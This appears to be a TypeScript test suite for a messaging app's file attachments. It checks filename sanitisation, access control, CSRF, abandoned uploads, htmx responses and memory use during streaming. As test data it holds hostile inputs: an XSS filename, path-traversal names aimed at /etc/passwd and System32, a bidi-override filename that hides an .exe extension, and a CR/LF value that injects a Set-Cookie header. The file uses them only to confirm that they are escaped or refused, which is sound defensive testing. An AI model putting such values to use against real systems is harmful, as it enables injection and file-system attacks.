  /** RFC 6266: ASCII only; a quoted ASCII fallback; filename*=UTF-8''… for anything else. */
  function assertDisposition(header: string | undefined, name: string) {
    assert.ok(header, 'a Content-Disposition header');
    assert.match(header, /^[\x20-\x7e]+$/, 'the header is printable ASCII');
    const match = /^attachment; filename="((?:[^"\\]|\\.)*)"(?:; filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%'()*-]+))?$/.exec(header);
    assert.ok(match, `well-formed: ${header}`);
    const fallback = match[1]!.replace(/\\(.)/g, '$1');
    if (match[2]) {
      // filename* holds the real name; the quoted one is an ASCII stand-in for old clients.
      assert.equal(decodeURIComponent(match[2]), name);
    } else {
      assert.match(name, /^[\x20-\x7e]*$/, 'a non-ASCII name has filename*');
      assert.equal(fallback, name);
    }
  }

  test('an XSS payload as a name is escaped everywhere and quoted in Content-Disposition', async () => {
    const { B, conversation, messageId, row } = await sendNamed({ name: 'files', file: pdf(), filenameStar: XSS });
    assert.equal(row.name, XSS, 'the name is kept as the sender wrote it (it is only ever text)');
    await assertEscaped(B.agent, conversation, messageId, XSS);
    const res = await fetchBytes(B.agent, `/messages/${conversation}/files/${row.id}`);
    assert.equal(res.status, 200);
    assertDisposition(res.headers['content-disposition'], XSS);
  });

  test('the same payload sent browser-style (quoted filename) is escaped too', async () => {
    const { B, conversation, messageId, row } = await sendNamed(file(XSS, pdf()));
    assert.equal(row.name, XSS);
    await assertEscaped(B.agent, conversation, messageId, XSS);
  });

  test('an image named with the payload: the alt attribute holds it as text', async () => {
    const name = '"><svg onload=alert(1)>.png';
    const { B, conversation, messageId, row } = await sendNamed({ name: 'files', file: await png(), filenameStar: name });
    const thread = html((await B.agent.get(`/messages/${conversation}`)).text);
    assert.equal(thread('svg[onload], [onload]').length, 0);
    assert.equal(thread(`#m-${messageId} img[loading="lazy"]`).attr('alt'), row.name);
  });

  for (const [label, raw] of [
    ['a Unix path', '../../etc/passwd.pdf'],
    ['a Windows path', '..\\..\\Windows\\System32\\evil.pdf'],
    ['an absolute path', '/var/lib/postgresql/data/evil.pdf'],
  ] as const) {
    test(`a name with ${label} keeps no folders`, async () => {
      for (const part of [file(raw, pdf()), { name: 'files', file: pdf(), filenameStar: raw } satisfies Part]) {
        const { B, conversation, row } = await sendNamed(part);
        assert.doesNotMatch(row.name, /[\\/]/, `no path separators: ${row.name}`);
        assert.ok(!row.name.startsWith('..'), `no parent references: ${row.name}`);
        assert.match(row.name, /\.pdf$/);
        const res = await fetchBytes(B.agent, `/messages/${conversation}/files/${row.id}`);
        assertDisposition(res.headers['content-disposition'], row.name);
      }
    });
  }

  test('bidi override and isolate characters are stripped, so the shown extension is the real one', async () => {
    const { B, conversation, messageId, row } = await sendNamed({ name: 'files', file: pdf(), filenameStar: 'invoice\u202Eexe.pdf' });
    assert.equal(row.name, 'invoiceexe.pdf');
    const thread = (await B.agent.get(`/messages/${conversation}`)).text;
    assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(thread), 'no bidi controls on the page');
    assert.match(html(thread)(`#m-${messageId} a[data-attachment-id]`).text(), /invoiceexe\.pdf/);
    // An override that hides a real .exe: cleaned, the name says .exe, and PDF bytes disagree.
    const { A, conversation: other } = await pair();
    const res = await send(A, other, 'trick', [{ name: 'files', file: pdf(), filenameStar: 'photo\u202Egpj.exe' }]);
    assert.equal(res.status, 400);
    assert.ok(!/[\u202a-\u202e]/.test(res.text));
    const isolate = await send(A, other, 'isolates', [{ name: 'files', file: pdf(), filenameStar: 'a\u2066b\u2067c\u2068d\u2069.pdf' }]);
    assert.equal(isolate.status, 303);
    const [isoRow] = await attachmentsOfMessage(messageIdFrom(isolate.headers.location, other));
    assert.equal(isoRow!.name, 'abcd.pdf');
  });

  test('CR/LF in a name cannot add a header', async () => {
    const { B, conversation, row } = await sendNamed({ name: 'files', file: pdf(), filenameStar: 'a\r\nSet-Cookie: pwned=1\r\n.pdf' });
    assert.doesNotMatch(row.name, /[\r\n]/);
    const res = await fetchBytes(B.agent, `/messages/${conversation}/files/${row.id}`);
    assert.equal(res.status, 200);
    assert.ok(!JSON.stringify(res.headers['set-cookie'] ?? []).includes('pwned'), 'no injected cookie');
    assertDisposition(res.headers['content-disposition'], row.name);
  });

  test('a non-ASCII name: an ASCII fallback and filename*=UTF-8', async () => {
    const name = 'Résumé — Zoë 📄 日本.pdf';
    const sent = await sendNamed(file(name, pdf()));
    assert.equal(sent.row.name, name, 'UTF-8 names arrive intact');
    const dl = await fetchBytes(sent.B.agent, `/messages/${sent.conversation}/files/${sent.row.id}`);
    assertDisposition(dl.headers['content-disposition'], name);
    assert.match(dl.headers['content-disposition'] ?? '', /filename\*=UTF-8''R%C3%A9sum%C3%A9/);
  });

  test('a Latin-1-only name (résumé.pdf) still gets an ASCII fallback and filename*', async () => {
    const name = 'résumé.pdf';
    const { B, conversation, row } = await sendNamed(file(name, pdf()));
    assert.equal(row.name, name);
    const dl = await fetchBytes(B.agent, `/messages/${conversation}/files/${row.id}`);
    assertDisposition(dl.headers['content-disposition'], name);
  });

  test('a name longer than 255 characters is shortened and keeps its extension', async () => {
    const { row } = await sendNamed({ name: 'files', file: pdf(), filenameStar: `${'ü'.repeat(400)}.pdf` });
    assert.ok([...row.name].length <= 255);
    assert.match(row.name, /^ü+\.pdf$/);
  });
});

// ---- Who may fetch a file ----

describe('authorization on every file URL', () => {
  let A: Member;
  let B: Member;
  let conversation: number;
  let image: number;
  let doc: number;
  let urls: string[];
  before(async () => {
    ({ A, B, conversation } = await pair());
    const res = await send(A, conversation, 'both', [file('p.png', await png()), file('d.pdf', pdf())]);
    assert.equal(res.status, 303);
    const rows = await attachmentsOfMessage(messageIdFrom(res.headers.location, conversation));
    image = rows.find((r) => r.kind === 'image')!.id;
    doc = rows.find((r) => r.kind === 'file')!.id;
    urls = [`/messages/${conversation}/files`, `/messages/${conversation}/files/${image}`, `/messages/${conversation}/files/${image}/thumb`, `/messages/${conversation}/files/${doc}`];
  });

  test('the participants get 200 on each', async () => {
    for (const who of [A, B]) for (const url of urls) assert.equal((await who.agent.get(url)).status, 200, `${who.username} ${url}`);
  });

  test('an outsider and an admin get 404 on each (as for an unknown conversation), and no bytes', async () => {
    const outsider = await member('eve');
    const admin = await member('root');
    await t.db.updateTable('users').set({ role: 'admin' }).where('id', '=', admin.id).execute();
    for (const who of [outsider, admin]) {
      for (const url of urls) {
        const res = await fetchBytes(who.agent, url);
        assert.equal(res.status, 404, `${who.username} ${url}`);
        assert.notEqual(res.headers['content-type'], 'application/pdf');
        assert.ok(!(res.body as Buffer).includes(Buffer.from('%PDF')), 'no file bytes in the answer');
      }
    }
  });

  test('logged out: a page GET is a 303 to the login form, htmx or not-a-page is 401', async () => {
    const anon = t.agent();
    for (const url of urls) {
      const res = await anon.get(url);
      assert.equal(res.status, 303, url);
      assert.equal(res.headers.location, `/login?next=${encodeURIComponent(url)}`);
      assert.equal((await anon.get(url).set('HX-Request', 'true')).status, 401, `${url} (htmx)`);
    }
  });

  test('unknown ids are 404; a file of another conversation under mine is 404; a thumb of a non-image is 404', async () => {
    const other = await pair();
    const res = await send(other.A, other.conversation, 'elsewhere', [file('e.png', await png()), file('e.pdf', pdf())]);
    const elsewhere = await attachmentsOfMessage(messageIdFrom(res.headers.location, other.conversation));
    for (const path of [
      `/messages/${conversation}/files/999999999`,
      `/messages/${conversation}/files/999999999/thumb`,
      `/messages/${conversation}/files/abc`,
      `/messages/${conversation}/files/${doc}/thumb`,
      ...elsewhere.flatMap((r) => [`/messages/${conversation}/files/${r.id}`, `/messages/${conversation}/files/${r.id}/thumb`]),
    ]) {
      assert.equal((await A.agent.get(path)).status, 404, path);
    }
    // And the owners of that other conversation do not get mine through theirs.
    assert.equal((await other.A.agent.get(`/messages/${other.conversation}/files/${doc}`)).status, 404);
    // An unknown conversation: 404.
    assert.equal((await A.agent.get(`/messages/999999999/files/${doc}`)).status, 404);
  });

  test('a pending file (uploaded with a refused send, never sent) is not served to anyone', async () => {
    const res = await send(A, conversation, 'x'.repeat(5001), [file('pending.pdf', pdf())]);
    assert.equal(res.status, 413);
    const pending = (await attachmentRows(conversation)).find((r) => r.message_id === null);
    assert.ok(pending, 'premise: it is kept, pending');
    for (const who of [A, B]) assert.equal((await who.agent.get(`/messages/${conversation}/files/${pending.id}`)).status, 404, who.username);
  });

  test('"delete for me": gone for the one who deleted, still there for the other', async () => {
    const c = await pair();
    const res = await send(c.A, c.conversation, 'keep?', [file('k.png', await png()), file('k.pdf', pdf())]);
    const rows = await attachmentsOfMessage(messageIdFrom(res.headers.location, c.conversation));
    const paths = rows.flatMap((r) => [`/messages/${c.conversation}/files/${r.id}`, ...(r.kind === 'image' ? [`/messages/${c.conversation}/files/${r.id}/thumb`] : [])]);
    for (const p of paths) assert.equal((await c.B.agent.get(p)).status, 200);
    const del = await c.B.agent.post(`/messages/${c.conversation}/delete`).type('form').send({ _csrf: c.B.token });
    assert.equal(del.status, 303);
    for (const p of paths) {
      assert.equal((await c.B.agent.get(p)).status, 404, `B after delete-for-me: ${p}`);
      assert.equal((await c.A.agent.get(p)).status, 200, `A still: ${p}`);
    }
    const files = html((await c.B.agent.get(`/messages/${c.conversation}/files`)).text);
    assert.equal(files('[data-attachment-id]').length, 0, 'nor listed in B’s Files view');
    assert.equal(html((await c.A.agent.get(`/messages/${c.conversation}/files`)).text)('[data-files] > li').length, 2);
  });

  test('a message a moderator redacts loses its files for both sides', async () => {
    const c = await pair();
    const res = await send(c.A, c.conversation, 'nasty picture', [file('nasty.png', await png()), file('nasty.pdf', pdf())]);
    const messageId = messageIdFrom(res.headers.location, c.conversation);
    const rows = await attachmentsOfMessage(messageId);
    assert.equal(rows.length, 2);
    const report = await c.B.agent.post(`/u/${c.A.username}/report`).type('form').send({ _csrf: c.B.token, reason: 'harassment', details: 'see the file', message_ids: String(messageId) });
    assert.equal(report.status, 303, report.text.slice(0, 200));
    const reportRow = await t.db.selectFrom('reports').select('id').where('reporter_id', '=', c.B.id).orderBy('id', 'desc').executeTakeFirstOrThrow();
    const mod = await member('mod');
    await t.db.updateTable('users').set({ role: 'admin' }).where('id', '=', mod.id).execute();
    const resolved = await mod.agent.post(`/admin/reports/${reportRow.id}/resolve`).type('form').send({ _csrf: mod.token, action: 'redact' });
    assert.equal(resolved.status, 303, resolved.text.slice(0, 200));
    for (const r of rows) {
      for (const who of [c.A, c.B]) {
        assert.equal((await who.agent.get(`/messages/${c.conversation}/files/${r.id}`)).status, 404);
        if (r.kind === 'image') assert.equal((await who.agent.get(`/messages/${c.conversation}/files/${r.id}/thumb`)).status, 404);
      }
    }
    assert.equal((await attachmentRows(c.conversation)).length, 0, 'the rows are gone');
    assert.equal(await chunkCount(rows.map((r) => r.id)), 0, 'and their bytes');
    const li = html((await c.B.agent.get(`/messages/${c.conversation}`)).text)(`#m-${messageId}`);
    assert.equal(li.attr('data-redacted'), 'true');
    assert.equal(li.find('[data-attachment-id], img').length, 0);
  });
});

// ---- CSRF ----

describe('CSRF on a multipart send', () => {
  async function assertNothingStored(conversation: number) {
    assert.equal((await attachmentRows(conversation)).length, 0, 'no attachment row');
    assert.equal(await messageCount(conversation), 0, 'no message');
  }

  test('the token as a field after a small file part (the whole body in one read): 403, nothing stored', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('body', 'late token'), file('x.pdf', pdf()), field('_csrf', A.token)]);
    assert.equal(res.status, 403);
    await assertNothingStored(conversation);
  });

  test('the token after a large file part (the file arrives over many reads): 403, nothing stored', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('body', 'late token'), file('big.pdf', pdfOfSize(512 * 1024)), field('_csrf', A.token)]);
    assert.equal(res.status, 403);
    await assertNothingStored(conversation);
  });

  test('a wrong token as the first field, with a file: 403, nothing stored', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('_csrf', `${A.token}x`), field('body', 'forged'), file('x.pdf', pdf())]);
    assert.equal(res.status, 403);
    await assertNothingStored(conversation);
  });

  test('a wrong token as the first field, text only (no file part): 403, nothing stored', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('_csrf', 'not-the-token'), field('body', 'forged text')]);
    assert.equal(res.status, 403, `a forged multipart text message must be refused (got ${res.status})`);
    await assertNothingStored(conversation);
  });

  test('another session’s token, with a file or text only: 403', async () => {
    const { A, conversation } = await pair();
    const other = await member('mallory');
    const res = await postParts(A, conversation, [field('_csrf', other.token), field('body', 'cross'), file('x.pdf', pdf())]);
    assert.equal(res.status, 403, 'with a file');
    const textOnly = await postParts(A, conversation, [field('_csrf', other.token), field('body', 'cross')]);
    assert.equal(textOnly.status, 403, `text only (got ${textOnly.status})`);
    await assertNothingStored(conversation);
  });

  test('the X-CSRF-Token header with a multipart body works; a wrong header is 403', async () => {
    const { A, conversation } = await pair();
    const wrong = await postParts(A, conversation, [field('body', 'bad header'), file('x.pdf', pdf())], { 'X-CSRF-Token': 'wrong' });
    assert.equal(wrong.status, 403);
    await assertNothingStored(conversation);
    const res = await postParts(A, conversation, [field('body', 'by header'), file('x.pdf', pdf())], { 'X-CSRF-Token': A.token });
    assert.equal(res.status, 303, res.text.slice(0, 200));
    const rows = await attachmentsOfMessage(messageIdFrom(res.headers.location, conversation));
    assert.equal(rows.length, 1);
  });

  test('logged out: 401 before any check, nothing stored', async () => {
    const { A, conversation } = await pair();
    const { body, contentType } = multipart([field('_csrf', A.token), field('body', 'anon'), file('x.pdf', pdf())]);
    const res = await t.agent().post(`/messages/${conversation}/messages`).set('Content-Type', contentType).send(body);
    assert.equal(res.status, 401);
    await assertNothingStored(conversation);
  });
});

// ---- Idempotency, htmx, live ----

describe('an abandoned upload', () => {
  test('a client that disconnects halfway leaves no attachment row and no chunks behind', async () => {
    const { A, conversation } = await pair();
    const server = await listen(t.app);
    try {
      const cookie = await sessionCookie(A.agent);
      const boundary = `----courier-${randomUUID()}`;
      const head = Buffer.concat([partHead(boundary, field('_csrf', A.token)), Buffer.from(`${A.token}\r\n`), partHead(boundary, file('half.pdf', Buffer.alloc(0)))]);
      const req = http.request(`${server.baseUrl}/messages/${conversation}/messages`, {
        method: 'POST',
        headers: { Cookie: cookie!, 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Content-Length': String(head.length + LIMIT) },
      });
      req.on('error', () => {});
      req.write(head);
      // 600 KB of a 1 MB file: past the sniffing and into the stored chunks.
      const body = pdfOfSize(LIMIT);
      for (let at = 0; at < 600 * 1024; at += 64 * 1024) req.write(body.subarray(at, at + 64 * 1024));
      const stored = async () => (await attachmentRows(conversation)).length;
      const deadline = Date.now() + 5000;
      while ((await stored()) === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      assert.equal(await stored(), 1, 'premise: the upload had begun (a pending row)');
      req.destroy();
      // The server notices, and discards what it had.
      const until = Date.now() + 5000;
      while ((await stored()) > 0 && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
      const rows = await attachmentRows(conversation);
      assert.equal(rows.length, 0, `the pending row is discarded (left: ${JSON.stringify(rows.map((r) => ({ id: r.id, complete: r.complete })))})`);
      assert.equal(await messageCount(conversation), 0);
    } finally {
      await server.close();
    }
  });
});

describe('the same client_id twice', () => {
  test('one message, one attachment: the duplicate’s upload is discarded', async () => {
    const { A, B, conversation } = await pair();
    const clientId = randomUUID();
    const first = await send(A, conversation, 'once', [file('one.pdf', pdf())], [field('client_id', clientId)]);
    const second = await send(A, conversation, 'once', [file('one.pdf', pdf())], [field('client_id', clientId)]);
    assert.equal(first.status, 303);
    assert.equal(second.status, 303);
    assert.equal(second.headers.location, first.headers.location, 'the same message');
    assert.equal(await messageCount(conversation), 1);
    const rows = await attachmentRows(conversation);
    assert.equal(rows.length, 1, 'one attachment row, none pending');
    const chunks = await mdb().selectFrom('attachment_chunks').select('attachment_id').distinct().where('attachment_id', 'in', rows.map((r) => r.id)).execute();
    assert.equal(chunks.length, 1);
    const page = html((await B.agent.get(`/messages/${conversation}`)).text);
    assert.equal(page('[data-attachment-id]').length, 1);
  });
});

describe('htmx', () => {
  test('a multipart send answers the sent message fragment with its attachments', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('_csrf', A.token), field('client_id', randomUUID()), field('body', 'via htmx'), file('h.png', await png()), file('h.pdf', pdf())], {
      'HX-Request': 'true',
      'X-CSRF-Token': A.token,
    });
    assert.equal(res.status, 200, res.text.slice(0, 300));
    const fragment = html(res.text);
    assert.equal(fragment('html > body > li[data-message-id]').length, 1, 'just the message');
    assert.equal(fragment('#composer').length, 0);
    const li = fragment('li[data-message-id]');
    assert.match(li.text(), /via htmx/);
    assert.equal(li.find('img[loading="lazy"]').length, 1);
    assert.match(li.find('a[download]').text(), /h\.pdf/);
    assert.equal(fragment('#composer-client-id[hx-swap-oob]').length, 1, 'a fresh client id for the next message');
  });

  test('a refused htmx send: 4xx with the composer error, and no pending rows left', async () => {
    const { A, conversation } = await pair();
    const res = await postParts(A, conversation, [field('_csrf', A.token), field('body', 'bad file'), file('good.pdf', pdf()), file('bad.txt', Buffer.from(HTML_PAGE))], {
      'HX-Request': 'true',
      'X-CSRF-Token': A.token,
    });
    assert.equal(res.status, 400);
    assert.match(html(res.text).text(), /bad\.txt: web pages, SVG and XML files can.t be sent/);
    assert.equal(html(res.text)('li, form, #composer').length, 0, 'only the reason');
    assert.equal((await attachmentRows(conversation)).length, 0, 'the good file uploaded with it is not kept either');
    const tooBig = await postParts(A, conversation, [field('_csrf', A.token), field('body', 'too big'), file('big.pdf', pdfOfSize(LIMIT + 1))], { 'HX-Request': 'true', 'X-CSRF-Token': A.token });
    assert.equal(tooBig.status, 413);
    assert.match(html(tooBig.text).text(), /big\.pdf is larger than 1\.0 MB/);
    assert.equal((await attachmentRows(conversation)).length, 0);
  });
});

describe('live', () => {
  let server: Listening;
  before(async () => {
    await waitForListeners(t.db, 1);
    server = await listen(t.app);
  });
  after(async () => {
    closeAllEventStreams();
    await server?.close();
  });

  test('the recipient’s event stream gets a message event whose HTML holds the attachment', async () => {
    const { A, B, conversation } = await pair();
    const stream = await openEventStream(server.baseUrl, await sessionCookie(B.agent));
    assert.equal(stream.status, 200);
    const res = await send(A, conversation, 'live file', [file('live.png', await png()), file('live.pdf', pdf())]);
    const messageId = messageIdFrom(res.headers.location, conversation);
    const rows = await attachmentsOfMessage(messageId);
    const event = await stream.waitFor((e) => e.event === 'message' && e.data.includes(`data-message-id="${messageId}"`), 3000, 'the message event');
    assert.ok(event.data.includes(`data-conversation-id="${conversation}"`));
    const fragment = html(event.data);
    for (const r of rows) assert.equal(fragment(`a[data-attachment-id="${r.id}"]`).length, 1, `attachment ${r.id} in the event`);
    assert.equal(fragment(`img[src="/messages/${conversation}/files/${rows.find((r) => r.kind === 'image')!.id}/thumb"]`).length, 1);
    stream.close();
  });
});

// ---- Memory while uploading a file at the limit ----

/** A full, forced garbage collection (for measuring what is retained, not what awaits collection). */
function gcFunction(): () => void {
  setFlagsFromString('--expose-gc');
  return runInNewContext('gc') as () => void;
}

/**
 * Samples memory every `everyMs`, each time after a forced GC, so what is measured is what is
 * retained, not garbage awaiting collection. Growth is over a baseline taken at the start.
 */
async function sampleMemory(gc: () => void, everyMs: number) {
  // A settled baseline: V8 frees ArrayBuffer memory on a background sweeper after a collection, so
  // collect and wait until the figure stops falling (a high baseline would hide growth).
  let base = process.memoryUsage();
  for (let round = 0; round < 20; round++) {
    gc();
    await new Promise((resolve) => setTimeout(resolve, 25));
    const now = process.memoryUsage();
    const settled = now.arrayBuffers >= base.arrayBuffers - 64 * 1024 && round > 0;
    base = now;
    if (settled) break;
  }
  const samples: { at: number; arrayBuffers: number; heapUsed: number; rss: number }[] = [];
  const started = performance.now();
  const take = () => {
    gc();
    const now = process.memoryUsage();
    samples.push({ at: performance.now() - started, arrayBuffers: now.arrayBuffers - base.arrayBuffers, heapUsed: now.heapUsed - base.heapUsed, rss: now.rss - base.rss });
  };
  const timer = setInterval(take, everyMs);
  return {
    stop() {
      clearInterval(timer);
      take();
      return samples;
    },
  };
}

/**
 * A sustained peak: the third-highest sample. A file held whole shows as a plateau over many
 * samples; a lone spike (buffers freed but not yet swept when one sample ran) does not count.
 */
function sustained(values: number[]): number {
  const sorted = [...values].sort((a, b) => b - a);
  return sorted[Math.min(2, sorted.length - 1)] ?? 0;
}

const MB = 1024 * 1024;

/** A slow reader: pauses 2 s once the response starts, then reads to the end; prints what it got. */
const READER = `
const http = require('node:http');
const { createHash } = require('node:crypto');
const hash = createHash('sha256');
let received = 0;
http.get(process.env.URL, { headers: { Cookie: process.env.COOKIE } }, (res) => {
  res.pause();
  console.log('paused');
  setTimeout(() => { console.log('resumed'); res.resume(); }, 2000);
  res.on('data', (c) => { hash.update(c); received += c.length; });
  res.on('end', () => console.log(JSON.stringify({ status: res.statusCode, length: res.headers['content-length'], received, sha256: hash.digest('hex') })));
}).on('error', (err) => { console.error(err); process.exit(1); });
`;

describe('memory stays bounded at the size limit', () => {
  const SIZE = 10 * MB;
  const PIECE = 64 * 1024;

  /** The file's bytes, made piece by piece (never whole): a PDF of exactly SIZE bytes. */
  function* pdfPieces(): Generator<Buffer> {
    for (let at = 0; at < SIZE; at += PIECE) {
      const piece = Buffer.alloc(Math.min(PIECE, SIZE - at), 0x30 + ((at / PIECE) % 40));
      if (at === 0) Buffer.from('%PDF-1.4\n%').copy(piece, 0);
      if (at + piece.length === SIZE) Buffer.from('\n%%EOF\n').copy(piece, piece.length - 7);
      yield piece;
    }
  }

  test('a 10 MB upload streams into PostgreSQL and back out without being held whole', async () => {
    // One byte of headroom: a file exactly at the limit is covered above (and refused, wrongly);
    // this test is about memory and should not depend on that.
    const m = await startTestApp({ attachments: { enabled: true, maxFileBytes: SIZE + 1, dailyBytes: 100 * MB } });
    const { A, B, conversation } = await pair(m);
    const server = await listen(m.app);
    const gc = gcFunction();
    const mb = (n: number) => `${(n / MB).toFixed(1)} MB`;
    const highest = (values: number[]) => Math.max(...values);
    try {
      // Upload: the request is made from a generator through node:http (supertest would hold the
      // whole body), so this process holds one 64 KB piece of it at a time on the client side.
      const cookie = await sessionCookie(A.agent);
      const boundary = `----courier-${randomUUID()}`;
      const head = Buffer.concat([partHead(boundary, field('_csrf', A.token)), Buffer.from(`${A.token}\r\n`), partHead(boundary, file('big.pdf', Buffer.alloc(0)))]);
      const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
      const expected = createHash('sha256');
      let produced = 0;
      async function* body() {
        yield head;
        for (const piece of pdfPieces()) {
          expected.update(piece);
          produced += piece.length;
          yield piece;
        }
        yield tail;
      }
      const upload = await sampleMemory(gc, 20);
      const uploadStarted = performance.now();
      const response = await new Promise<{ status: number; location: string | undefined }>((resolve, reject) => {
        const req = http.request(`${server.baseUrl}/messages/${conversation}/messages`, {
          method: 'POST',
          headers: { Cookie: cookie!, 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Content-Length': String(head.length + SIZE + tail.length) },
        });
        req.on('response', (res) => {
          res.resume();
          res.on('end', () => resolve({ status: res.statusCode ?? 0, location: res.headers.location }));
        });
        req.on('error', reject);
        Readable.from(body()).pipe(req);
      });
      const uploadMs = performance.now() - uploadStarted;
      const up = upload.stop();
      const upBuffers = sustained(up.map((x) => x.arrayBuffers));
      const upHeap = sustained(up.map((x) => x.heapUsed));
      console.log(`# upload of 10 MB: ${Math.round(uploadMs)} ms, ${up.length} samples; retained over baseline (3rd highest): arrayBuffers ${mb(upBuffers)} (highest ${mb(highest(up.map((x) => x.arrayBuffers)))}), heapUsed ${mb(upHeap)}, rss ${mb(sustained(up.map((x) => x.rss)))}`);
      assert.equal(produced, SIZE);
      assert.equal(response.status, 303);
      assert.ok(up.length >= 10, `enough samples during the upload (${up.length})`);
      assert.ok(upBuffers < 6 * MB, `upload: buffers retained stay well under the file's 10 MB (${mb(upBuffers)})`);
      assert.ok(upHeap < 6 * MB, `upload: heap retained stays well under 10 MB (${mb(upHeap)})`);

      const [row] = await attachmentsOfMessage(messageIdFrom(response.location, conversation), m);
      assert.equal(Number(row!.size_bytes), SIZE);
      const chunks = await mdb(m)
        .selectFrom('attachment_chunks')
        .select((eb) => [eb.fn.countAll<string>().as('n'), eb.fn.max(sql<number>`length(data)`).as('largest')])
        .where('attachment_id', '=', row!.id)
        .executeTakeFirstOrThrow();
      assert.equal(Number(chunks.n), SIZE / (256 * 1024), 'stored as 256 KB chunks');
      assert.equal(Number(chunks.largest), 256 * 1024);

      // Download: a slow reader first (paused 2 s), then a fast one. While it is paused, the
      // server must wait on backpressure holding a few chunks, not read on into memory.
      const bCookie = await sessionCookie(B.agent);
      const download = await sampleMemory(gc, 20);
      const downloadStarted = performance.now();
      let stalledFrom = Infinity;
      let stalledUntil = 0;
      // The reader runs in a process of its own: what it receives (and has not collected yet) must
      // not count as what the server holds. It says when it pauses and resumes; the times are ours.
      const reader = spawn(process.execPath, ['-e', READER], { env: { ...process.env, URL: `${server.baseUrl}/messages/${conversation}/files/${row!.id}`, COOKIE: bCookie! }, stdio: ['ignore', 'pipe', 'inherit'] });
      let output = '';
      const served = await new Promise<{ status: number; length: string | undefined; received: number; sha256: string }>((resolve, reject) => {
        reader.stdout!.setEncoding('utf8');
        reader.stdout!.on('data', (chunk: string) => {
          output += chunk;
          for (const line of chunk.split('\n')) {
            // The socket buffers fill within the first moments (longer on a loaded machine); from then on
            // the server must be waiting.
            // The window ends early rather than late: the reader's lines reach us through a pipe, so
            // "resumed" may arrive after data has been flowing again for a while on a loaded machine.
            if (line === 'paused') {
              stalledFrom = performance.now() - downloadStarted + 800;
              stalledUntil = stalledFrom + 1000;
            }
            if (line === 'resumed') stalledUntil = Math.min(stalledUntil, performance.now() - downloadStarted);
          }
        });
        reader.on('error', reject);
        reader.on('exit', () => {
          const last = output.trim().split('\n').pop() ?? '';
          try {
            resolve(JSON.parse(last) as { status: number; length: string | undefined; received: number; sha256: string });
          } catch (err) {
            reject(err);
          }
        });
      });
      const received = served.received;
      const down = download.stop();
      const stalled = down.filter((x) => x.at > stalledFrom && x.at < stalledUntil).map((x) => x.arrayBuffers);
      const downBuffers = sustained(down.map((x) => x.arrayBuffers));
      const downHeap = sustained(down.map((x) => x.heapUsed));
      console.log(
        `# download of 10 MB: ${down.length} samples; while the reader stalled (${stalled.length} samples) the highest ${mb(highest(stalled))}, sustained ${mb(sustained(stalled))}; overall (3rd highest) arrayBuffers ${mb(downBuffers)} (highest ${mb(highest(down.map((x) => x.arrayBuffers)))}), heapUsed ${mb(downHeap)}`,
      );
      assert.equal(served.status, 200);
      assert.equal(Number(served.length), SIZE, 'Content-Length is the file size');
      assert.equal(received, SIZE);
      assert.equal(served.sha256, expected.digest('hex'), 'the same bytes');
      assert.ok(stalled.length >= 3, `samples while the reader stalled (${stalled.length})`);
      // Sustained, not the single highest: V8 frees buffers on a background sweeper, so one sample
      // can still count a batch already let go; a server reading on into memory shows as a plateau.
      assert.ok(sustained(stalled) < 4 * MB, `download: a stalled reader leaves the server holding a few chunks, not the file (${mb(sustained(stalled))})`);
      assert.ok(downBuffers < 8 * MB, `download: buffers retained stay under the file's size (${mb(downBuffers)})`);
      assert.ok(downHeap < 6 * MB, `download: heap retained stays small (${mb(downHeap)})`);
    } finally {
      await server.close();
    }
  });
});
